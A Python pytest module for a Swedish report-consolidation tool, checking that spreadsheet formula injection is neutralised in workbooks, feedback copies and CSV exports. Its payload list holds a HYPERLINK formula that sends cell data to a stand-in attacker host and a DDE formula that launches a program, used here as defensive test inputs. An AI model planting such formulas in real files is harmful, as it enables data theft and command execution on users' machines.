"""Formula injection: text a unit typed that starts with =, +, -, @ stays text in every output —
the master workbook, the feedback copies and the CSV export."""

from __future__ import annotations

import csv
import html
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from consolidate.catalog import Catalog
from consolidate.demo import load_seeds, unit_values
from consolidate.periods import Period

from conftest import ROOT

PERIOD = Period(2025, 2)
CATALOG = ROOT / "schemas" / "katalog.toml"
# What unit heads type (or paste) into comment cells; each would run as a formula if written as one.
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka här")',
    "+46 70 123 45 67",
    "-2 placeringar avslutade, se bilaga",
    "@SUMMA(A1:A9)",
    "=cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@")
EVIL_NAME = f"=1+2 {PERIOD}_beroende.xlsx"  # a file name is text a person chose, too


def fill_as_text(template: Path, values: dict[str, Any], out: Path) -> Path:
    """Type values with openpyxl; strings stay strings, as Excel keeps typed text in a text cell."""
    wb = openpyxl.load_workbook(template)
    for name, value in values.items():
        for sheet, ref in wb.defined_names[name].destinations:
            cell = wb[sheet][ref.replace("$", "")]
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    out.parent.mkdir(parents=True, exist_ok=True)
    wb.save(out)
    return out


def sheet_formulas(path: Path) -> list[str]:
    """The text of every <f> element in every worksheet of a workbook (unescaped)."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                found += [html.unescape(m)
                          for m in re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml, re.DOTALL)]
    return found


def assert_text_not_formula(path: Path, payloads: list[str]) -> dict[str, list[str]]:
    """Every payload is held as a text cell somewhere, none as (part of) a formula.
    Returns payload -> the sheets it was found on."""
    formulas = sheet_formulas(path)
    for payload in payloads:
        assert not any(payload in f or payload.lstrip("=+-@") in f for f in formulas), \
            (payload, formulas)
    wb = openpyxl.load_workbook(path)
    where: dict[str, list[str]] = {p: [] for p in payloads}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                for payload in payloads:
                    if payload in cell.value:
                        assert cell.data_type == "s", (ws.title, cell.coordinate, cell.data_type)
                        where[payload].append(ws.title)
    missing = [p for p, sheets in where.items() if not sheets]
    assert not missing, f"payloads not found as text in {path.name}: {missing}"
    return where


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory, template_cache: Callable[[str, str], Path],
           catalog: Catalog) -> tuple[Path, dict[str, str]]:
    """Six valid submissions whose comment cells hold the payloads; one has a hostile file name,
    and a second, rejected vuxen file has a payload typed into a number cell."""
    root = tmp_path_factory.mktemp("injektion") / "inlämnat"
    comments: dict[str, str] = {}
    turn = 0
    for unit in catalog.unit_ids():
        values = unit_values(catalog, load_seeds(), unit, PERIOD)
        for name in [n for n in values if n.endswith(("_varde", "_taljare"))]:
            comment = name.rsplit("_", 1)[0] + "_kommentar"
            values[comment] = comments[f"{unit}:{comment}"] = PAYLOADS[turn % len(PAYLOADS)]
            turn += 1
        file_name = EVIL_NAME if unit == "beroende" else f"{PERIOD}_{unit}.xlsx"
        fill_as_text(template_cache(unit, str(PERIOD)), values, root / file_name)
    assert turn >= len(PAYLOADS)
    bad = unit_values(catalog, load_seeds(), "vuxen", PERIOD)
    number_cell = next(n for n in bad if n.endswith("_varde"))
    bad[number_cell] = "=1+2"
    fill_as_text(template_cache("vuxen", str(PERIOD)), bad, root / f"{PERIOD}_vuxen_rättad.xlsx")
    return root, comments


def test_the_submitted_files_hold_text_not_formulas(folder: tuple[Path, dict[str, str]]) -> None:
    """Guard for the test itself: the inputs are typed text, as Excel would keep them."""
    root, _ = folder
    for path in sorted(root.glob("*.xlsx")):
        assert not any(p.lstrip("=+-@") in f for f in sheet_formulas(path) for p in PAYLOADS), path
    where = assert_text_not_formula(root / f"{PERIOD}_vuxen.xlsx", PAYLOADS[:3])
    assert all(sheets == ["Indikatorer"] for sheets in where.values())


def test_master_holds_the_typed_text_as_text(folder: tuple[Path, dict[str, str]], tmp_path: Path,
                                             invoke: Callable[..., Any],
                                             unchanged: Callable[[Path], None]) -> None:
    root, comments = folder
    unchanged(root)
    master = tmp_path / "sammanställning.xlsx"
    result = invoke("run", root, "--out", master, "--katalog", CATALOG)
    assert result.exit_code in (0, 1), result.output
    where = assert_text_not_formula(master, PAYLOADS + [EVIL_NAME, "=1+2"])
    for payload in PAYLOADS:
        assert {"Data", "Sammanställning"} <= set(where[payload]), (payload, where[payload])
    assert "Data" in where[EVIL_NAME] and "Inlämning" in where[EVIL_NAME]
    # The number cell typed as "=1+2" is rejected and its value logged as text.
    wb = openpyxl.load_workbook(master)
    ws = wb["Valideringslogg"]
    heads = [c.value for c in ws[4]]
    file_col, value_col = heads.index("Fil"), heads.index("Värde")
    log = [r[value_col] for r in ws.iter_rows(min_row=5)
           if r[file_col].value == f"{PERIOD}_vuxen_rättad.xlsx" and r[value_col].value == "=1+2"]
    assert log and all(c.data_type == "s" for c in log)
    # Each comment is there exactly as typed, in the Data sheet's text column.
    data = wb["Data"]
    heads = [c.value for c in data[1]]
    text_col, unit_col, id_col = heads.index("Text"), heads.index("Enhets-id"), heads.index("Id")
    typed = {(r[unit_col].value, r[id_col].value): r[text_col] for r in data.iter_rows(min_row=2)
             if r[text_col].value is not None}
    for key, payload in comments.items():
        unit, name = key.split(":")
        indicator = name[len("ind_"):-len("_kommentar")]
        cell = typed[(unit, indicator)]
        assert cell.value == payload and cell.data_type == "s"


def test_feedback_copies_keep_the_typed_text_as_text(folder: tuple[Path, dict[str, str]],
                                                     tmp_path: Path, invoke: Callable[..., Any],
                                                     unchanged: Callable[[Path], None]) -> None:
    root, _ = folder
    unchanged(root)
    out = tmp_path / "återkoppling"
    result = invoke("check", root, "--feedback", out, "--katalog", CATALOG)
    assert result.exit_code == 1, result.output  # the vuxen file with "=1+2" in a number cell
    copies = sorted(out.glob("*_återkoppling.xlsx"))
    assert len(copies) == 7
    for copy in copies:
        wb = openpyxl.load_workbook(copy)
        strings = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
                   if isinstance(c.value, str)]
        present = [p for p in PAYLOADS + ["=1+2"] if any(p in s for s in strings)]
        assert present, copy.name
        assert_text_not_formula(copy, present)
    rejected = openpyxl.load_workbook(out / f"{PERIOD}_vuxen_rättad_återkoppling.xlsx")
    flagged = [c for row in rejected["Indikatorer"].iter_rows() for c in row if c.value == "=1+2"]
    assert flagged and flagged[0].data_type == "s" and flagged[0].comment is not None


def test_csv_export_prefixes_formula_text_with_an_apostrophe(
        folder: tuple[Path, dict[str, str]], tmp_path: Path, invoke: Callable[..., Any],
        unchanged: Callable[[Path], None]) -> None:
    root, comments = folder
    unchanged(root)
    export = tmp_path / "export"
    result = invoke("run", root, "--out", tmp_path / "m.xlsx", "--export", export, "--katalog",
                    CATALOG)
    assert result.exit_code in (0, 1), result.output
    with open(export / f"data_{PERIOD}.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    assert rows
    text_columns = [c for c in rows[0] if c != "value"]
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(FORMULA_START + ("\t", "\r")), (column, row[column])
    texts = {row["text"] for row in rows if row["text"]}
    for payload in set(comments.values()):
        assert "'" + payload in texts, payload
    assert "'" + EVIL_NAME in {row["file"] for row in rows}
    # Ordinary text is left alone.
    assert any(row["unit_name"] and not row["unit_name"].startswith("'") for row in rows)
